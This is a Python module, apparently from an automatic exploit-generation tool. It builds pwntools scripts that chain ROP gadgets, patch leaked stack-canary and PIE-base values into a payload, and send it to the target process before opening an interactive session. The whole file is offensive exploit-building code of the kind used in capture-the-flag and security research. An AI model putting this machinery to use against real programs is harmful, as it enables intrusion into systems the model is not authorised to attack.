"""Append-only sink that accumulates the generated exploit script."""

from __future__ import annotations

import logging
import pathlib
import re
import textwrap
from typing import Any, Dict, Iterable, List, Optional, Tuple

from .utils.binary import checksec, find_gadget

logger = logging.getLogger(__name__)

_STAGE1_HELPER = textwrap.dedent(
    """
    EMU_CANARY = {canary:#x}
    EMU_ELF_BASE = {elf_base:#x}
    EMU_ELF_END = {elf_end:#x}


    def solve_stage1(canary, elf_base, payload_hex):
        payload = bytearray(bytes.fromhex(payload_hex))
        i = 0
        while i + 8 <= len(payload):
            value = u64(bytes(payload[i:i + 8]))
            if EMU_CANARY and value == EMU_CANARY:
                payload[i:i + 8] = p64(canary)
                i += 8
            elif EMU_ELF_BASE <= value < EMU_ELF_END:
                payload[i:i + 8] = p64(value - EMU_ELF_BASE + elf_base)
                i += 8
            else:
                i += 1
        return bytes(payload)
    """
)


class Exploit:
    """Collects script lines and ROP payload fragments in emission order."""

    def __init__(self, elf: Any, libc: Any = None, *, elf_filename: Optional[str] = None):
        self.elf = elf
        self.libc = libc
        self.elf_filename = elf_filename or getattr(elf, "path", "./target")
        self.link_base = int(getattr(elf, "address", 0))
        self.emulated_canary = 0
        self.emulated_elf_base = 0
        self.emulated_elf_end = 0
        self._lines: List[str] = []
        self._rop_payload: List[str] = []
        self._variables: Dict[str, int] = {}
        self._gadgets: Dict[Tuple[int, str], Optional[int]] = {}

    # -- gadgets ------------------------------------------------------------
    @staticmethod
    def to_var_name(asm: str) -> str:
        """``"pop rdi ; ret"`` -> ``"pop_rdi_ret"``."""
        return re.sub(r"[^0-9a-zA-Z]+", "_", asm.strip()).strip("_").lower()

    def resolve_gadget(self, elf: Any, asm: str) -> Optional[int]:
        key = (id(elf), asm)
        if key not in self._gadgets:
            address = find_gadget(elf, asm)
            self._gadgets[key] = address
            if address is not None:
                self.register_variable(self.to_var_name(asm), address)
        return self._gadgets[key]

    def register_variable(self, name: str, address: int) -> None:
        self._variables[name] = address

    @property
    def variables(self) -> Dict[str, int]:
        return dict(self._variables)

    # -- output -----------------------------------------------------------------
    def writeline(self, line: str = "") -> None:
        self._lines.append(line)

    def writelines(self, lines: Iterable[str]) -> None:
        for line in lines:
            self.writeline(line)

    def append_rop_payload(self, fragment: str) -> None:
        self._rop_payload.append(fragment)

    def flush_rop_payload(self) -> None:
        if not self._rop_payload:
            return
        self.writeline("payload = " + " + ".join(self._rop_payload))
        self.writeline("proc.send(payload)")
        self._rop_payload.clear()

    @property
    def lines(self) -> List[str]:
        return list(self._lines)

    def clear(self) -> None:
        """Drop the script body, keeping resolved gadgets and emulated facts."""
        self._lines.clear()
        self._rop_payload.clear()

    def _header(self) -> List[str]:
        mitigations = checksec(self.elf)
        header = [
            "#!/usr/bin/env python3",
            "from pwn import *",
            "",
            "context.update(arch='amd64', os='linux')",
            f"elf = ELF({self.elf_filename!r}, checksec=False)",
            "proc = process(elf.path)",
            "",
            f"elf_base = {0 if mitigations.pie else self.link_base:#x}",
            "canary = 0",
        ]
        if mitigations.canary or mitigations.pie:
            helper = _STAGE1_HELPER.format(
                canary=self.emulated_canary,
                elf_base=self.emulated_elf_base,
                elf_end=self.emulated_elf_end,
            )
            header.extend(helper.rstrip("\n").split("\n"))
        return header

    def render(self) -> str:
        self.flush_rop_payload()
        body = self._header() + self._lines + ["", "proc.interactive()"]
        return "\n".join(body) + "\n"

    def write(self, path: str | pathlib.Path) -> pathlib.Path:
        target = pathlib.Path(path)
        target.write_text(self.render(), encoding="utf-8")
        target.chmod(0o755)
        logger.warning("Generated exploit script: %s", target)
        return target


__all__ = ["Exploit"]
